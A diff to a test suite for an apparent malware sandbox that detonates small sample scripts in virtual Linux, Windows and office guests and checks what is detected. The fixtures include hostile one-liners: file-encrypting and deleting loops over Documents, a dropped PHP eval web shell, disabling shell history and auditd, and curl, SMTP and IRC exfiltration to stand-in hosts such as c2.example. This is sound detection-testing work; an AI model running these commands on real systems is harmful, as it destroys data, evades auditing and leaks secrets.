@@ -11,7 +11,12 @@ import { allEnvironments } from '../sandbox-runner/machines/guests.ts';
 import { openMachines } from '../sandbox-runner/machines/open.ts';
 import type { QemuMachines } from '../sandbox-runner/machines/qemu-machines.ts';
 import type { ObservedEvent } from '../schema/jobs.ts';
+import { availableGuests } from './guests.ts';
 import { typeSamples } from './samples/types.ts';
+
+const offered = await availableGuests(allEnvironments);
+/** A test that needs the guests of these environments. */
+const needing = (...environments: string[]) => test.skipIf(environments.some((name) => !offered.includes(name)));
 
 const engine = await loadEngine();
 const samples = await typeSamples();
@@ -19,7 +24,7 @@ let folder: string;
 let machines: QemuMachines;
 beforeAll(async () => {
   folder = await mkdtemp(join(tmpdir(), 'assay-environments-'));
-  ({ machines } = await openMachines({ ...foldersFrom(process.env), data: folder }, silent, allEnvironments));
+  ({ machines } = await openMachines({ ...foldersFrom(process.env), data: folder }, silent, offered));
 });
 afterAll(async () => {
   await machines.close();
@@ -37,56 +42,57 @@ const analysed = async (name: string, bytes?: Buffer, environment: string | null
 };
 
 describe('the environments', () => {
-  test.each([
+  test.for([
     ['tiny64', 'linux'], ['tiny32', 'linux'], ['a.pl', 'linux'], ['a.php', 'linux'], ['server.js', 'linux'], ['tiny32.exe', 'windows-10'], ['old.exe', 'windows-xp'], ['library.dll', 'windows-10'], ['installer.msi', 'windows-10'],
     ['a.vbs', 'windows-10'], ['a.wsf', 'windows-10'], ['a.lnk', 'windows-10'], ['program.jar', 'java'], ['a.docx', 'office'], ['package.deb', 'linux'], ['example.rpm', 'linux'],
-  ])('%s runs in %s, to its end or to its time', async (name, environment) => {
+  ] as const)('%s runs in %s, to its end or to its time', { timeout: 120_000 }, async ([name, environment], { skip }) => {
+    skip(!offered.includes(environment), `${environment} could not be made here`);
     const { detonations } = await analysed(name);
     expect(detonations[0]).toMatchObject({ environment, outcome: expect.stringMatching(/^(ENDED|TIMED_OUT)$/) as string });
-  }, 120_000);
-  test('windows-7 says that it is Windows 7', async () => {
+  });
+  needing('windows-7')('windows-7 says that it is Windows 7', async () => {
     const { members } = await analysed('ver.bat', Buffer.from('@ver > %TEMP%\\version.txt\r\n'), 'windows-7');
     expect(members.map((one) => one.fileName)).toContain('version.txt');
   }, 120_000);
-  test('windows-xp is a 32-bit Windows, with somebody at its desk', async () => {
+  needing('windows-xp')('windows-xp is a 32-bit Windows, with somebody at its desk', async () => {
     const { members } = await analysed('arch.bat', Buffer.from('@echo %PROCESSOR_ARCHITECTURE%> %TEMP%\\arch.txt\r\n@ver > %TEMP%\\version.txt\r\n@if exist C:\\windows\\syswow64 echo two > %TEMP%\\wow.txt\r\n'), 'windows-xp');
     expect(members.find((one) => one.fileName === 'arch.txt')!.sha256).toBe(createHash('sha256').update('x86\r\n').digest('hex'));
     expect(members.map((one) => one.fileName).sort()).toEqual(['arch.txt', 'version.txt']);
     const dialog = await analysed('dialog32.exe', await readFile(new URL('samples/dialog32.exe', import.meta.url)), 'windows-xp', 90_000);
     expect(dialog.members).toMatchObject([{ fileName: 'answer.txt', sha256: createHash('sha256').update('yes, mouse moved\r\n').digest('hex') }]);
   }, 240_000);
-  test('a macro that an OpenDocument text runs when it is opened is seen to run', async () => {
+  needing('office')('a macro that an OpenDocument text runs when it is opened is seen to run', async () => {
     // How fast this machine is must not decide: the macro runs when the office is ready for it.
     const { detonations, members, signals } = await analysed('a.odt', undefined, null, 90_000);
     expect(detonations[0]).toMatchObject({ environment: 'office', outcome: 'ENDED' });
     expect(members.map((one) => one.fileName)).toContain('from-macro');
     expect(signals.some((one) => one.run === 0)).toBe(true);
   }, 240_000);
-  test('somebody sits at the desk of Windows: questions are answered with yes, and the mouse moves', async () => {
+  needing('windows-10')('somebody sits at the desk of Windows: questions are answered with yes, and the mouse moves', async () => {
     // It waits ten seconds by itself, besides the person's own pace: how fast this machine is must not decide.
     const { members, detonations } = await analysed('dialog.exe', await readFile(new URL('samples/dialog.exe', import.meta.url)), null, 90_000);
     expect(detonations[0]).toMatchObject({ outcome: 'ENDED' });
     expect(members).toMatchObject([{ fileName: 'answer.txt', sha256: createHash('sha256').update('yes, mouse moved\r\n').digest('hex') }]);
   }, 240_000);
-  test.each([
+  needing('linux', 'windows-10').each([
     ['lock.sh', '#!/bin/bash\nfor f in ~/Documents/*; do base64 "$f" > "$f.x7"; rm "$f"; done\n', 'assay-linux-many-documents'],
     ['lock.bat', 'cd /d C:\\users\\user\\Documents\r\nfor %%f in (*.*) do ren "%%f" "%%f.x7"\r\n', 'assay-windows-many-documents'],
   ])('documents that change one after the other are seen together, whatever changes them: %s', async (name, text, rule) => {
     const { signals } = await analysed(name, Buffer.from(text));
     expect(signals.find((one) => one.rule === rule)).toMatchObject({ techniques: ['T1486', 'T1485'], run: 0 });
   }, 120_000);
-  test('what a sample writes is looked at like a member, and says from where', async () => {
+  needing('linux')('what a sample writes is looked at like a member, and says from where', async () => {
     const { members, signals } = await analysed('drop.sh', Buffer.from('#!/bin/sh\nprintf \'<?php eval(base64_decode("aWQ7")); ?>\' > /tmp/left.php\necho done\n'));
     expect(members).toMatchObject([{ fileName: 'left.php', mediaType: 'application/x-php' }]);
     expect(signals.every((signal) => signal.weight <= 100)).toBe(true);
   }, 120_000);
-  test('commands of the shell are seen after expansion, builtins and missing programs too', async () => {
+  needing('linux')('commands of the shell are seen after expansion, builtins and missing programs too', async () => {
     const { signals } = await analysed('hide.sh', Buffer.from('#!/bin/bash\nh=HISTFILE\nunset $h\n$(echo c3lzdGVtY3RsIHN0b3AgYXVkaXRk | base64 -d)\n'));
     const evidence = signals.flatMap((signal) => signal.evidence).join('\n');
     expect(evidence).toContain('unset HISTFILE');
     expect(evidence).toContain('systemctl stop auditd');
   }, 120_000);
-  test('what a sample says over TLS, to a mail server and in a chat is heard', async () => {
+  needing('linux')('what a sample says over TLS, to a mail server and in a chat is heard', async () => {
     const script = '#!/bin/bash\ncurl -sS https://c2.example/steal -d secret=1\nprintf "EHLO x\\r\\nMAIL FROM:<a@b.example>\\r\\nRCPT TO:<d@e.example>\\r\\nDATA\\r\\nSubject: stolen\\r\\n\\r\\nbody\\r\\n.\\r\\nQUIT\\r\\n" | nc -w 3 mail.example 25\n(printf "NICK bot\\r\\nUSER bot 0 * :x\\r\\n"; sleep 1; printf "JOIN #c2\\r\\n"; sleep 1) | nc -w 4 irc.example 6667\n';
     const events: ObservedEvent[] = [];
     await analyse(engine, machines, { fileName: 'talk.sh', runMsMax: 25_000, environment: null }, Buffer.from(script), (result) => {
@@ -98,18 +104,18 @@ describe('the environments', () => {
     expect(told).toContainEqual(expect.objectContaining({ DestinationPort: '25', FirstBytes: expect.stringMatching(/RCPT TO:<d@e.example>[\s\S]*Subject: stolen[\s\S]*QUIT/) as string }));
     expect(told).toContainEqual(expect.objectContaining({ DestinationPort: '6667', FirstBytes: expect.stringContaining('JOIN #c2') as string }));
   }, 120_000);
-  test('processes are told of while they run', async () => {
+  needing('linux')('processes are told of while they run', async () => {
     const hints: string[] = [];
     await analyse(engine, machines, { fileName: 'slow.sh', runMsMax: 25_000, environment: null }, Buffer.from('#!/bin/bash\nsleep 1.7\n'), () => Promise.resolve(), (hint) => hints.push(...(hint.processes ?? []).map((one) => one.commandLine)));
     expect(hints).toContain('sleep 1.7');
   }, 120_000);
-  test.each(['linux', 'windows-10', 'windows-xp', 'office'])('%s was checked for what gives it away, and says so', (environment) => {
+  test.each(['linux', 'windows-10', 'windows-xp', 'office'].filter((name) => offered.includes(name)))('%s was checked for what gives it away, and says so', (environment) => {
     const { passed, total, seen } = machines.evasion(environment)!;
     expect(total).toBeGreaterThan(12);
     expect(passed + seen.length).toBe(total);
     for (const gone of ['dmi-strings', 'hypervisor-flag', 'documents', 'shell-history', 'our-files']) expect(seen.join('\n')).not.toContain(`${gone}:`);
   });
-  test('a document with macros that did nothing is not called executed', async () => {
+  needing('office')('a document with macros that did nothing is not called executed', async () => {
     const { detonations } = await analysed('a.docm');
     expect(detonations[0]).toMatchObject({ environment: 'office', outcome: 'NOT_EXECUTED', limitations: expect.arrayContaining(['MACROS_NOT_SEEN_TO_RUN']) as string[] });
   }, 120_000);
